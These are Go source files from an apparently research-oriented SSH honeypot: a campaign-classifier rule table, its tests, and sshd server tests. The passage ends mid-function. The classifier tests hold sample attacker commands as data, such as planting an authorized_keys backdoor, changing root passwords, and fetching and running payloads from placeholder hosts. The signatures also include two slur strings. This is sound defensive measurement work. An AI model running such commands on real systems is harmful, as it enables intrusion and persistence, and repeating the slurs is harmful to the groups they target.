	{Name: "lenni_0451", Require: []string{`lenni0451`}},
	{Name: "binx86", Require: []string{`bin\.x86_64`}},
	{Name: "export_vei", Require: []string{`export VEI`}},
	{Name: "clamav", Require: []string{`\bclamav\b`}},
	{Name: "grer_echo", Require: []string{`\\x67\\x79`}},
	{Name: "dget_4", Require: []string{`wget\s+-4`, `dget\s+-4`}},
	{Name: "wget_dget", Require: []string{`dget`}},
	{Name: "openssl_passwd", Require: []string{`openssl passwd -1 \S{8}`}},
	{Name: "cloud_print", Require: []string{`cloud\s+print`}},
	{Name: "shell_fp", Require: []string{`\$SHELL`, `bs=22`}},
	{Name: "perl_dred_miner", Require: []string{`perl`, `dred`}},
	{Name: "stx_miner", Require: []string{`stx`, `LC_ALL`}},
	// The two slur-named campaigns; the paper redacts the names in prose
	// but keeps the signatures for reproducibility (Table 1).
	{Name: "fjp_attack", Require: []string{`fuckjewishpeople`}},
	{Name: "grer_attack", Require: []string{`gayfgt`}},
	{Name: "ohshit_attack", Require: []string{`ohshit`}},
	{Name: "onions_attack", Require: []string{`onions1337`}},
	{Name: "sora_attack", Require: []string{`sora`}},
	{Name: "heisen_attack", Require: []string{`Heisenberg`}},
	{Name: "zeus_attack", Require: []string{`Zeus`}},
	{Name: "update_attack", Require: []string{`update\.sh`}},
	{Name: "ak47_scout", Require: []string{`\\x41\\x4b\\x34\\x37`, `writable`}},
	{Name: "rm_obf_pattern_1", Require: []string{`rm\s+-rf\s+\.[a-z]{2,8}`, `history -c`}},

	// --- Generic loader combinations (the 14 "how files are introduced"
	// categories of section 5), most specific first.
	{Name: "gen_curl_echo_ftp_wget", Generic: true, Require: []string{`\bcurl\b`, `\becho\b`, `ftp`, `\bwget\b`}},
	{Name: "gen_curl_echo_wget", Generic: true, Require: []string{`\bcurl\b`, `\becho\b`, `\bwget\b`}},
	{Name: "gen_curl_ftp_wget", Generic: true, Require: []string{`\bcurl\b`, `ftp`, `\bwget\b`}},
	{Name: "gen_echo_ftp_wget", Generic: true, Require: []string{`\becho\b`, `ftp`, `\bwget\b`}},
	{Name: "gen_curl_echo", Generic: true, Require: []string{`\bcurl\b`, `\becho\b`}},
	{Name: "gen_curl_ftp", Generic: true, Require: []string{`\bcurl\b`, `ftp`}},
	{Name: "gen_curl_wget", Generic: true, Require: []string{`\bcurl\b`, `\bwget\b`}},
	{Name: "gen_echo_ftp", Generic: true, Require: []string{`\becho\b`, `ftp`}},
	{Name: "gen_echo_wget", Generic: true, Require: []string{`\becho\b`, `\bwget\b`}},
	{Name: "gen_ftp_wget", Generic: true, Require: []string{`ftp`, `\bwget\b`}},
	{Name: "gen_curl", Generic: true, Require: []string{`\bcurl\b`}},
	{Name: "gen_wget", Generic: true, Require: []string{`\bwget\b`}},
	{Name: "gen_ftp", Generic: true, Require: []string{`ftp`}},
	{Name: "gen_echo", Generic: true, Require: []string{`\becho\b`}},
}

// Classifier applies the rule table. Safe for concurrent use after New.
//
// Results are memoized by exact command text: bot sessions repeat
// verbatim command strings, so across a 33-month dataset the distinct
// texts are a tiny fraction of the sessions and the cache hit rate is
// very high.
type Classifier struct {
	rules []Rule
	// memo caches text -> category. Classification is a pure function of
	// the text, so concurrent fills are idempotent and the cache never
	// changes a result.
	memo sync.Map
}

// New compiles the rule table.
func New() *Classifier {
	compiled := make([]Rule, len(rules))
	copy(compiled, rules)
	for i := range compiled {
		r := &compiled[i]
		for _, expr := range r.Require {
			re := regexp.MustCompile(expr)
			r.require = append(r.require, re)
			if lit, complete := re.LiteralPrefix(); complete && lit != "" {
				r.literals = append(r.literals, lit)
			}
		}
		for _, expr := range r.Exclude {
			r.exclude = append(r.exclude, regexp.MustCompile(expr))
		}
	}
	return &Classifier{rules: compiled}
}

// Categories returns the category names in rule order, ending with
// Unknown. The paper reports 59 categories total.
func (c *Classifier) Categories() []string {
	out := make([]string, 0, len(c.rules)+1)
	for i := range c.rules {
		out = append(out, c.rules[i].Name)
	}
	return append(out, Unknown)
}

// NumCategories returns the total category count including Unknown.
func (c *Classifier) NumCategories() int { return len(c.rules) + 1 }

// Rules exposes the compiled rule table (read-only).
func (c *Classifier) Rules() []Rule { return c.rules }

// Classify returns the first matching category for the session command
// text, or Unknown.
func (c *Classifier) Classify(text string) string {
	if cat, ok := c.memo.Load(text); ok {
		return cat.(string)
	}
	cat := c.classify(text)
	c.memo.Store(text, cat)
	return cat
}

// ClassifyUncached classifies without consulting or filling the memo —
// the reference path for the streaming-vs-batch equivalence tests and
// for benchmarks that must measure rule probing, not cache hits.
func (c *Classifier) ClassifyUncached(text string) string { return c.classify(text) }

// classify applies the rule table without touching the memo.
func (c *Classifier) classify(text string) string {
	for i := range c.rules {
		if c.rules[i].Matches(text) {
			return c.rules[i].Name
		}
	}
	return Unknown
}

// ClassifyAll classifies a batch of session texts using up to `workers`
// goroutines and returns the category per input position. Only the
// distinct uncached texts are evaluated — the memo plus intra-batch
// dedup does the rest — so the cost scales with distinct new texts, not
// sessions. Output is identical to calling Classify per element.
func (c *Classifier) ClassifyAll(texts []string, workers int) []string {
	workers = parallel.Workers(workers)
	out := make([]string, len(texts))
	var misses []string
	seen := map[string]bool{}
	for _, t := range texts {
		if seen[t] {
			continue
		}
		if _, ok := c.memo.Load(t); !ok {
			seen[t] = true
			misses = append(misses, t)
		}
	}
	parallel.ForEach(len(misses), workers, 8, func(_, lo, hi int) {
		for i := lo; i < hi; i++ {
			c.memo.Store(misses[i], c.classify(misses[i]))
		}
	})
	for i, t := range texts {
		cat, _ := c.memo.Load(t)
		out[i] = cat.(string)
	}
	return out
}

// Matches reports whether the rule's conjunction holds for text.
func (r *Rule) Matches(text string) bool {
	for _, lit := range r.literals {
		if !strings.Contains(text, lit) {
			litShortcircuits.Add(1)
			return false
		}
	}
	litVerifies.Add(1)
	return r.Verify(text)
}

// Verify checks only the regex conjunction and exclusions, skipping the
// literal substring prefilter. Callers that have already proven every
// literal occurs in text (the streaming matcher's Aho–Corasick pass)
// use it to finish a candidate probe; Matches == literals present &&
// Verify, by construction.
func (r *Rule) Verify(text string) bool {
	for _, re := range r.require {
		if !re.MatchString(text) {
			return false
		}
	}
	for _, re := range r.exclude {
		if re.MatchString(text) {
			return false
		}
	}
	return true
}

// Literals returns the rule's plain-substring prefilters: one per
// Require regex whose match set is exactly one literal string. A rule
// can only match texts containing every literal. Rules built from
// regexes with no complete literal form return an empty slice — they
// must always be verified.
func (r *Rule) Literals() []string { return r.literals }

// RequireRegexps returns the compiled Require conjunction in rule
// order. The streaming matcher builds its residual verification plans
// from the compiled forms: requires whose match set is exactly one
// literal are proven (or refuted) by the automaton pass alone and never
// reach the regex engine.
func (r *Rule) RequireRegexps() []*regexp.Regexp { return r.require }

// ExcludeRegexps returns the compiled Exclude regexes.
func (r *Rule) ExcludeRegexps() []*regexp.Regexp { return r.exclude }

// IsGeneric reports whether name is one of the generic loader categories.
func (c *Classifier) IsGeneric(name string) bool {
	for i := range c.rules {
		if c.rules[i].Name == name {
			return c.rules[i].Generic
		}
	}
	return false
}
