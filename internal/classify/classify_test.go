package classify

import (
	"strings"
	"testing"
)

func TestCategoryAssignments(t *testing.T) {
	c := New()
	cases := []struct {
		text string
		want string
	}{
		// Section 9 campaign, both variants. Order matters: the variant
		// must win when hosts.deny is touched.
		{`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr"},
		{`rm -rf /tmp/auth.sh; echo > /etc/hosts.deny; echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr_variant"},
		// mdrfckr with a long chpasswd line must still be mdrfckr, not
		// root_17_char_pwd — rule precedence.
		{`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd; echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys`, "mdrfckr"},

		// Scouts.
		{`echo -e "\x6F\x6B"`, "echo_ok"},
		{`echo ok`, "echo_ok_txt"},
		{`echo "SSH check works"`, "echo_ssh_check"},
		{`echo 0a1b2c3d-1111-2222-3333-444455556666`, "echo_os_check"},
		{`uname -a`, "uname_a"},
		{`uname -s -v -n -r -m`, "uname_svnrm"},
		{`uname -s -v -n -r`, "uname_svnr"},
		{`uname -a; nproc`, "uname_a_nproc"},
		{`uname -s -n -r -i; nproc`, "uname_snri_nproc"},

		// busybox family.
		{`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`, "bbox_scout_cat"},
		{`/bin/busybox ABCDE; cd /tmp; wget http://x/f; tftp -g -r f 1.2.3.4`, "bbox_5_char_v2"},
		{`/bin/busybox KDVRN`, "bbox_5_char"},
		{`busybox wget http://x/loader.wget; sh loader.wget`, "bbox_loaderwget"},
		{`echo -ne "\x7f\x45\x4c\x46" > /tmp/.a`, "bbox_echo_elf"},
		{`/bin/busybox LONGPROBE7`, "bbox_unlabelled"},
		{`/bin/busybox X; chmod 777 bot; ./bot1234`, "bbox_rand_exec"},

		// Named campaigns.
		{`ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAC key`, "rapperbot"},
		{`echo root:aB3dE5fG7hI9kL1mN|chpasswd`, "root_17_char_pwd"},
		{`curl https://x/ -s --max-redirs 5`, "curl_maxred"},
		{`echo lenni0451`, "lenni_0451"},
		{`export VEI=1`, "export_vei"},
		{`apt install clamav`, "clamav"},
		{`wget -4 http://x/a; dget -4 http://x/a`, "dget_4"},
		{`dget http://x/a`, "wget_dget"},
		{`openssl passwd -1 abcd1234`, "openssl_passwd"},
		{`echo $SHELL; dd bs=22 if=/proc/self/exe`, "shell_fp"},
		{`perl dred.pl`, "perl_dred_miner"},
		{`export LC_ALL=C; wget http://x/stx`, "stx_miner"},
		{`sh ohshit.sh`, "ohshit_attack"},
		{`wget http://x/onions1337.sh`, "onions_attack"},
		{`wget http://x/sora.arm`, "sora_attack"},
		{`echo Heisenberg`, "heisen_attack"},
		{`run Zeus now`, "zeus_attack"},
		{`sh update.sh`, "update_attack"},
		{`echo -e "\x41\x4b\x34\x37"; echo writable`, "ak47_scout"},
		{`echo "root:abcd12345678"|chpasswd; awk '{print $4, $5, $6, $7}'`, "root_12_char_capscout"},
		{`echo "root:abcd12345678"|chpasswd; echo 321`, "root_12_char_echo321"},
		{`wget http://1.2.3.4/juicessh.apk`, "juicessh"},
		{`echo Password123 | passwd daemon`, "passwd123_daemon"},

		// Generic loader combinations, most specific wins.
		{`curl -O http://x/a; echo hi; ftpget h a a; wget http://x/b`, "gen_curl_echo_ftp_wget"},
		{`curl -O http://x/a; wget http://x/b`, "gen_curl_wget"},
		{`wget http://x/a; chmod +x a; ./a`, "gen_wget"},
		{`curl http://x/a`, "gen_curl"},
		{`echo hello`, "gen_echo"},
		{`ftpget host local remote`, "gen_ftp"},

		// Unknown.
		{`systemctl status sshd`, Unknown},
		{`ls -la; cd /opt; pwd`, Unknown},
	}
	for _, cse := range cases {
		if got := c.Classify(cse.text); got != cse.want {
			t.Errorf("Classify(%q) = %q, want %q", cse.text, got, cse.want)
		}
	}
}

func TestCategoryCountAndUniqueness(t *testing.T) {
	c := New()
	cats := c.Categories()
	if n := c.NumCategories(); n != len(cats) {
		t.Errorf("NumCategories = %d, Categories = %d", n, len(cats))
	}
	// The paper uses 59 (58 regex + unknown); we additionally cover the
	// figure-only labels, so the table must be at least that large.
	if len(cats) < 59 {
		t.Errorf("categories = %d, want >= 59", len(cats))
	}
	seen := map[string]bool{}
	for _, name := range cats {
		if seen[name] {
			t.Errorf("duplicate category %q", name)
		}
		seen[name] = true
	}
	if cats[len(cats)-1] != Unknown {
		t.Error("last category must be unknown")
	}
}

func TestGenericFlag(t *testing.T) {
	c := New()
	generics := 0
	for _, r := range c.Rules() {
		if r.Generic {
			generics++
			if !strings.HasPrefix(r.Name, "gen_") {
				t.Errorf("generic rule %q should be gen_*", r.Name)
			}
		}
	}
	// The paper counts 14 generic file-introduction categories.
	if generics != 14 {
		t.Errorf("generic categories = %d, want 14", generics)
	}
	if !c.IsGeneric("gen_wget") || c.IsGeneric("mdrfckr") {
		t.Error("IsGeneric misreports")
	}
}

func TestFirstMatchWinsIsOrderStable(t *testing.T) {
	c := New()
	// A text matching several generic rules must always resolve to the
	// most specific (earliest) one.
	text := `curl http://x/a; echo hi; wget http://x/b`
	for i := 0; i < 10; i++ {
		if got := c.Classify(text); got != "gen_curl_echo_wget" {
			t.Fatalf("iteration %d: %q", i, got)
		}
	}
}

func TestClassifierIsConcurrencySafe(t *testing.T) {
	c := New()
	done := make(chan bool)
	for g := 0; g < 8; g++ {
		go func() {
			for i := 0; i < 200; i++ {
				c.Classify(`uname -a; nproc`)
			}
			done <- true
		}()
	}
	for g := 0; g < 8; g++ {
		<-done
	}
}

func TestClassifyAllMatchesClassify(t *testing.T) {
	// Fresh classifier per worker count so the memo starts cold each time.
	ref := New()
	texts := []string{
		`uname -a`,
		`echo ok`,
		`curl http://x/a; echo hi; wget http://x/b`,
		`uname -a`, // duplicate: must hit the intra-batch dedup
		`systemctl status sshd`,
		`wget http://x/sora.arm`,
		`echo ok`,
		`ls -la; cd /opt; pwd`,
	}
	want := make([]string, len(texts))
	for i, txt := range texts {
		want[i] = ref.Classify(txt)
	}
	for _, workers := range []int{1, 2, 8} {
		c := New()
		got := c.ClassifyAll(texts, workers)
		if len(got) != len(want) {
			t.Fatalf("workers=%d: %d results, want %d", workers, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Errorf("workers=%d: ClassifyAll[%d] = %q, want %q", workers, i, got[i], want[i])
			}
		}
		// A second batch over the same texts must be served from the memo
		// with identical results.
		again := c.ClassifyAll(texts, workers)
		for i := range want {
			if again[i] != want[i] {
				t.Errorf("workers=%d: memoized ClassifyAll[%d] = %q, want %q", workers, i, again[i], want[i])
			}
		}
	}
}

func TestClassifyAllEmpty(t *testing.T) {
	c := New()
	if got := c.ClassifyAll(nil, 4); len(got) != 0 {
		t.Errorf("ClassifyAll(nil) = %v, want empty", got)
	}
}

func TestClassifyMemoConsistentWithBatch(t *testing.T) {
	// Classify must see batch-populated memo entries and vice versa.
	c := New()
	if got := c.Classify(`uname -a`); got != "uname_a" {
		t.Fatalf("Classify = %q", got)
	}
	got := c.ClassifyAll([]string{`uname -a`, `echo ok`}, 4)
	if got[0] != "uname_a" || got[1] != "echo_ok_txt" {
		t.Fatalf("ClassifyAll = %v", got)
	}
	if got := c.Classify(`echo ok`); got != "echo_ok_txt" {
		t.Errorf("Classify after batch = %q", got)
	}
}

func BenchmarkClassifyScout(b *testing.B) {
	c := New()
	text := `echo -e "\x6F\x6B"`
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Classify(text)
	}
}

func BenchmarkClassifyUnknown(b *testing.B) {
	c := New()
	// Worst case: falls through every rule.
	text := `ls -la /opt && ps aux && netstat -tlpn && cat /etc/passwd`
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Classify(text)
	}
}
