package sshd

import (
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/sshclient"
	"honeynet/internal/sshwire"
)

// startServer launches a Server on an ephemeral port and returns its
// address. The server echoes exec commands and serves a toy shell.
func startServer(t testing.TB, mutate func(*Config)) (string, *recorder) {
	t.Helper()
	hk, err := sshwire.GenerateHostKey()
	if err != nil {
		t.Fatal(err)
	}
	rec := &recorder{}
	cfg := Config{
		HostKey: hk,
		Auth: func(meta ConnMeta, user, password string) bool {
			return user == "root" && password != "root"
		},
		OnAuthAttempt: rec.onAuth,
		Handler: func(s *Session) {
			if s.Command != "" {
				fmt.Fprintf(s, "exec:%s", s.Command)
				_ = s.Exit(0)
				return
			}
			// Toy shell: prompt, echo each line until EOF.
			io.WriteString(s, "# ")
			buf := make([]byte, 1024)
			var line strings.Builder
			for {
				n, err := s.Read(buf)
				if n > 0 {
					line.WriteString(string(buf[:n]))
					for {
						txt := line.String()
						i := strings.IndexByte(txt, '\n')
						if i < 0 {
							break
						}
						cmd := strings.TrimSpace(txt[:i])
						line.Reset()
						line.WriteString(txt[i+1:])
						if cmd == "exit" {
							_ = s.Exit(0)
							return
						}
						fmt.Fprintf(s, "you said %s\n# ", cmd)
					}
				}
				if err != nil {
					_ = s.Exit(0)
					return
				}
			}
		},
	}
	if mutate != nil {
		mutate(&cfg)
	}
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go srv.Serve(ln) //nolint:errcheck
	return ln.Addr().String(), rec
}

type recorder struct {
	mu       sync.Mutex
	attempts []string
}

func (r *recorder) onAuth(meta ConnMeta, user, password string, ok bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.attempts = append(r.attempts, fmt.Sprintf("%s:%s:%v", user, password, ok))
}

func (r *recorder) list() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.attempts...)
}

func TestNewValidatesConfig(t *testing.T) {
	hk, _ := sshwire.GenerateHostKey()
	auth := func(ConnMeta, string, string) bool { return true }
	handler := func(*Session) {}
	cases := []Config{
		{Auth: auth, Handler: handler},
		{HostKey: hk, Handler: handler},
		{HostKey: hk, Auth: auth},
	}
	for i, cfg := range cases {
		if _, err := New(cfg); err == nil {
			t.Errorf("case %d: New should reject incomplete config", i)
		}
	}
	if _, err := New(Config{HostKey: hk, Auth: auth, Handler: handler}); err != nil {
		t.Errorf("valid config rejected: %v", err)
	}
}

func TestExecRoundTrip(t *testing.T) {
	addr, _ := startServer(t, nil)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "hunter2"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	res, err := cli.Exec("uname -a")
	if err != nil {
		t.Fatal(err)
	}
	if string(res.Output) != "exec:uname -a" {
		t.Errorf("output = %q", res.Output)
	}
	if !res.HasExit || res.ExitStatus != 0 {
		t.Errorf("exit = %v %d", res.HasExit, res.ExitStatus)
	}
}

func TestMultipleExecsOnOneConnection(t *testing.T) {
	addr, _ := startServer(t, nil)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	for i := 0; i < 5; i++ {
		cmd := fmt.Sprintf("echo %d", i)
		res, err := cli.Exec(cmd)
		if err != nil {
			t.Fatalf("exec %d: %v", i, err)
		}
		if string(res.Output) != "exec:"+cmd {
			t.Errorf("exec %d: output %q", i, res.Output)
		}
	}
}

func TestInteractiveShell(t *testing.T) {
	addr, _ := startServer(t, nil)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	defer sh.Close()
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	out, err := sh.Run("hello world", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "you said hello world") {
		t.Errorf("shell output = %q", out)
	}
	out, err = sh.Run("second", "# ")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "you said second") {
		t.Errorf("shell output = %q", out)
	}
}

func TestAuthPolicyAndRecording(t *testing.T) {
	addr, rec := startServer(t, nil)

	// root:root is rejected by the honeypot-style policy.
	_, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "root"})
	if !errors.Is(err, sshclient.ErrAuthFailed) {
		t.Errorf("root:root should fail auth, got %v", err)
	}
	// Any other password is accepted.
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin"})
	if err != nil {
		t.Fatalf("root:admin should succeed: %v", err)
	}
	cli.Close()
	// Non-root user is rejected.
	_, err = sshclient.Dial(addr, sshclient.Config{User: "pi", Password: "raspberry"})
	if !errors.Is(err, sshclient.ErrAuthFailed) {
		t.Errorf("pi login should fail auth, got %v", err)
	}

	attempts := rec.list()
	want := []string{"root:root:false", "root:admin:true", "pi:raspberry:false"}
	if len(attempts) != len(want) {
		t.Fatalf("attempts = %v, want %v", attempts, want)
	}
	for i := range want {
		if attempts[i] != want[i] {
			t.Errorf("attempt %d = %q, want %q", i, attempts[i], want[i])
		}
	}
}

func TestMaxAuthTries(t *testing.T) {
	addr, _ := startServer(t, func(c *Config) { c.MaxAuthTries = 2 })
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	conn, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := conn.RequestService("ssh-userauth"); err != nil {
		t.Fatal(err)
	}
	try := func(pw string) ([]byte, error) {
		b := sshwire.NewBuilder(64)
		b.Byte(sshwire.MsgUserauthRequest)
		b.StringS("root")
		b.StringS("ssh-connection")
		b.StringS("password")
		b.Bool(false)
		b.StringS(pw)
		if err := conn.WritePacket(b.Bytes()); err != nil {
			return nil, err
		}
		return conn.ReadPacket()
	}
	if p, err := try("root"); err != nil || p[0] != sshwire.MsgUserauthFailure {
		t.Fatalf("first failure: %v %v", p, err)
	}
	// Second failure exceeds MaxAuthTries=2 -> disconnect.
	_, err = try("root")
	var d *sshwire.DisconnectMsg
	if !errors.As(err, &d) {
		t.Errorf("want disconnect after max tries, got %v", err)
	}
}

func TestSessionMetaAndEnv(t *testing.T) {
	metaCh := make(chan *Session, 1)
	addr, _ := startServer(t, func(c *Config) {
		c.Handler = func(s *Session) {
			metaCh <- s
			_ = s.Exit(0)
		}
	})
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "abc", Version: "SSH-2.0-EvilBot"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	if _, err := cli.Exec("id"); err != nil {
		t.Fatal(err)
	}
	select {
	case s := <-metaCh:
		if s.Meta.User != "root" {
			t.Errorf("user = %q", s.Meta.User)
		}
		if s.Meta.ClientVersion != "SSH-2.0-EvilBot" {
			t.Errorf("client version = %q", s.Meta.ClientVersion)
		}
		if s.Command != "id" {
			t.Errorf("command = %q", s.Command)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("handler never ran")
	}
}

func TestConnTimeoutEnforced(t *testing.T) {
	addr, _ := startServer(t, func(c *Config) {
		c.ConnTimeout = 300 * time.Millisecond
	})
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	sh, err := cli.Shell()
	if err != nil {
		t.Fatal(err)
	}
	defer sh.Close()
	if _, err := sh.ReadUntil("# "); err != nil {
		t.Fatal(err)
	}
	// Idle past the connection deadline: the server must drop us.
	start := time.Now()
	_, err = sh.ReadUntil("never-appears")
	if err == nil {
		t.Fatal("expected connection teardown")
	}
	if time.Since(start) > 3*time.Second {
		t.Errorf("teardown took %v", time.Since(start))
	}
}

func TestUnsupportedChannelTypeRejected(t *testing.T) {
	addr, _ := startServer(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	cli, err := sshclient.NewClientConn(nc, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	_, err = cli.OpenRaw("direct-tcpip", nil)
	var oce *sshwire.OpenChannelError
	if !errors.As(err, &oce) {
		t.Fatalf("want OpenChannelError, got %v", err)
	}
	if oce.Reason != sshwire.OpenUnknownChannelType {
		t.Errorf("reason = %d", oce.Reason)
	}
}

func TestPtyEnvAndWindowChangeRequests(t *testing.T) {
	sessCh := make(chan *Session, 1)
	addr, _ := startServer(t, func(c *Config) {
		c.Handler = func(s *Session) {
			sessCh <- s
			_ = s.Exit(0)
		}
	})
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	cli, err := sshclient.NewClientConn(nc, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()

	ch, err := cli.OpenRaw("session", nil)
	if err != nil {
		t.Fatal(err)
	}
	// env, pty-req, window-change, then shell.
	env := sshwire.NewBuilder(32)
	env.StringS("LANG").StringS("C.UTF-8")
	if ok, err := ch.SendRequest("env", true, env.Bytes()); err != nil || !ok {
		t.Fatalf("env request: %v %v", ok, err)
	}
	pty := sshwire.NewBuilder(64)
	pty.StringS("vt100").Uint32(132).Uint32(43).Uint32(0).Uint32(0).StringS("")
	if ok, err := ch.SendRequest("pty-req", true, pty.Bytes()); err != nil || !ok {
		t.Fatalf("pty request: %v %v", ok, err)
	}
	wc := sshwire.NewBuilder(16)
	wc.Uint32(80).Uint32(24).Uint32(0).Uint32(0)
	if ok, err := ch.SendRequest("window-change", true, wc.Bytes()); err != nil || !ok {
		t.Fatalf("window-change request: %v %v", ok, err)
	}
	if ok, err := ch.SendRequest("shell", true, nil); err != nil || !ok {
		t.Fatalf("shell request: %v %v", ok, err)
	}
	select {
	case s := <-sessCh:
		if !s.PTY || s.Term != "vt100" {
			t.Errorf("pty = %v term = %q", s.PTY, s.Term)
		}
		if s.Env["LANG"] != "C.UTF-8" {
			t.Errorf("env = %v", s.Env)
		}
		if !s.IsShell || s.Command != "" {
			t.Errorf("session type: shell=%v cmd=%q", s.IsShell, s.Command)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("handler never ran")
	}
}

func TestSubsystemAndUnknownRequestsRejected(t *testing.T) {
	addr, _ := startServer(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	cli, err := sshclient.NewClientConn(nc, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close()
	ch, err := cli.OpenRaw("session", nil)
	if err != nil {
		t.Fatal(err)
	}
	sub := sshwire.NewBuilder(16)
	sub.StringS("sftp")
	ok, err := ch.SendRequest("subsystem", true, sub.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Error("sftp subsystem must be rejected (the paper's capture gap)")
	}
	ok, err = ch.SendRequest("x11-req", true, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Error("unknown request must be rejected")
	}
}

func TestNoneAuthAdvertisesPassword(t *testing.T) {
	addr, _ := startServer(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	conn, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := conn.RequestService("ssh-userauth"); err != nil {
		t.Fatal(err)
	}
	b := sshwire.NewBuilder(64)
	b.Byte(sshwire.MsgUserauthRequest)
	b.StringS("root")
	b.StringS("ssh-connection")
	b.StringS("none")
	if err := conn.WritePacket(b.Bytes()); err != nil {
		t.Fatal(err)
	}
	p, err := conn.ReadPacket()
	if err != nil {
		t.Fatal(err)
	}
	r := sshwire.NewReader(p)
	if tp := r.Byte(); tp != sshwire.MsgUserauthFailure {
		t.Fatalf("reply = %s", sshwire.MsgName(tp))
	}
	methods := r.NameList()
	if len(methods) != 1 || methods[0] != "password" {
		t.Errorf("continue-methods = %v", methods)
	}
}

func TestPublickeyAuthRejected(t *testing.T) {
	addr, _ := startServer(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	conn, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := conn.RequestService("ssh-userauth"); err != nil {
		t.Fatal(err)
	}
	b := sshwire.NewBuilder(64)
	b.Byte(sshwire.MsgUserauthRequest)
	b.StringS("root")
	b.StringS("ssh-connection")
	b.StringS("publickey")
	b.Bool(false)
	b.StringS("ssh-ed25519")
	b.String(make([]byte, 51))
	if err := conn.WritePacket(b.Bytes()); err != nil {
		t.Fatal(err)
	}
	p, err := conn.ReadPacket()
	if err != nil {
		t.Fatal(err)
	}
	if p[0] != sshwire.MsgUserauthFailure {
		t.Errorf("publickey must fail (section 3.2: not supported), got %s", sshwire.MsgName(p[0]))
	}
}

func TestWrongServiceDisconnects(t *testing.T) {
	addr, _ := startServer(t, nil)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	conn, err := sshwire.ClientHandshake(nc, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := conn.RequestService("ssh-userauth"); err != nil {
		t.Fatal(err)
	}
	b := sshwire.NewBuilder(64)
	b.Byte(sshwire.MsgUserauthRequest)
	b.StringS("root")
	b.StringS("no-such-service")
	b.StringS("password")
	b.Bool(false)
	b.StringS("x")
	if err := conn.WritePacket(b.Bytes()); err != nil {
		t.Fatal(err)
	}
	_, err = conn.ReadPacket()
	var d *sshwire.DisconnectMsg
	if !errors.As(err, &d) {
		t.Errorf("want disconnect for bad service, got %v", err)
	}
}

// TestServeGateSheds: a Gate wired into Serve (e.g. a guard.Limiter)
// sheds connections before the SSH banner, and release fires when an
// admitted connection ends.
func TestServeGateSheds(t *testing.T) {
	released := make(chan struct{}, 8)
	var admit atomic.Bool
	admit.Store(true)
	addr, _ := startServer(t, func(cfg *Config) {
		cfg.Gate = func(nc net.Conn) (func(), bool) {
			if !admit.Load() {
				return nil, false
			}
			return func() { released <- struct{}{} }, true
		}
	})
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "x"})
	if err != nil {
		t.Fatal(err)
	}
	cli.Close()
	select {
	case <-released:
	case <-time.After(5 * time.Second):
		t.Fatal("gate release never called")
	}

	admit.Store(false)
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 16)
	for {
